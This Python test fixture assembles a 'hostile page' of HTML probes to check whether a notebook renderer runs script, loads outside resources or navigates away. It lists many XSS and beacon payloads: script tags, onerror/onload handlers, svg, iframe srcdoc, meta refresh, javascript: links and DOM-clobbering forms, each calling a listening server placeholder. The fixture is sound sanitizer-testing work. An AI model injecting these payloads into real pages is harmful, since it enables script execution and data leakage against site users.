"""A page that tries everything: to run script, to send a request, to lead the notebook away.

`{ear}` is a server that listens. `CLICKED` are probes that need a click on the element of class "bait".
"""

PROBES = {
    "script": "<script>fetch('{ear}/script')</script>",
    "event attribute": "<img src=x onerror=\"fetch('{ear}/event-attribute')\">",
    "event attribute in a drawing": "<svg onload=\"fetch('{ear}/svg-onload')\"></svg>",
    "script in a drawing": "<svg><script>fetch('{ear}/svg-script')</script></svg>",
    "image in a drawing": "<svg><image href='{ear}/svg-image' width=9 height=9 /></svg>",
    "image": "<img src='{ear}/image'>",
    "image set": "<img srcset='{ear}/srcset 1x'>",
    "picture": "<picture><source srcset='{ear}/picture'><img></picture>",
    "image button": "<form><input type=image src='{ear}/image-button'></form>",
    "body background": "<table background='{ear}/background'><tr><td>x</table>",
    "stylesheet": "<link rel=stylesheet href='{ear}/stylesheet'>",
    "style import": "<style>@import url({ear}/style-import);</style>",
    "style image": "<style>body {{ background: url({ear}/style-image) }}</style>",
    "style attribute": "<p style='background: url({ear}/style-attribute)'>x</p>",
    "font": "<style>@font-face {{ font-family: f; src: url({ear}/font) }} p {{ font-family: f }}</style><p>x</p>",
    "frame": "<iframe src='{ear}/iframe'></iframe>",
    "frame with a document of its own": '<iframe srcdoc="<img src={ear}/srcdoc>"></iframe>',
    "object": "<object data='{ear}/object'></object>",
    "embed": "<embed src='{ear}/embed'>",
    "video": "<video src='{ear}/video' poster='{ear}/poster'></video>",
    "sound": "<audio src='{ear}/audio' autoplay></audio>",
    "preload": "<link rel=preload as=image href='{ear}/preload'>",
    "prefetch": "<link rel=prefetch href='{ear}/prefetch'>",
    "meta refresh": "<meta http-equiv=refresh content='0; url={ear}/refresh'>",
    "base": "<base href='{ear}/base/'><img src=under-base>",
    "an event that needs no pointer": "<details open ontoggle=\"fetch('{ear}/toggle')\">x</details>",
    "focus by itself": "<input autofocus onfocus=\"fetch('{ear}/autofocus')\">",
    "shadow": "<div><template shadowrootmode=open><img src='{ear}/shadow'></template></div>",
    "badly nested": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=\"fetch('{ear}/nested')\">",
}
CLICKED = {
    "link for the whole window": "<a class=bait target=_top href='{ear}/top'>x</a>",
    "link for a new window": "<a class=bait target=_blank href='{ear}/blank'>x</a>",
    "link that is script": "<a class=bait href=\"javascript:fetch('{ear}/javascript')\">x</a>",
    "link in a drawing": "<svg><a class=bait href='{ear}/svg-link'><text y=20>x</text></a></svg>",
    "link that tells on you": "<a class=bait href='#x' ping='{ear}/ping'>x</a>",
    "form to elsewhere": "<form action='{ear}/form' target=_top><button class=bait>x</button></form>",
    "button to elsewhere": "<form><button class=bait formaction='{ear}/formaction' formtarget=_top>x</button></form>",
    "form that is script": "<form action=\"javascript:fetch('{ear}/form-js')\"><button class=bait>x</button></form>",
    "names that hide methods": (
        "<form action='{ear}/clobbered' target=_top><input name=getAttribute><input name=closest><input name=localName>"
        "<input name=attributes><input name=appendChild><button class=bait>x</button></form>"
        "<img name=body><img name=head><img name=querySelector><img name=createElement><img name=getElementById>"
    ),
}


def hostile_page(ear: str, probes: dict[str, str]) -> str:
    """Return a page with these probes."""
    title = "<!doctype html><title>Hostile</title><h1>A hostile page</h1><p id=x>x</p>"
    return title + "\n".join(f"<div>{markup.format(ear=ear)}</div>" for markup in probes.values())
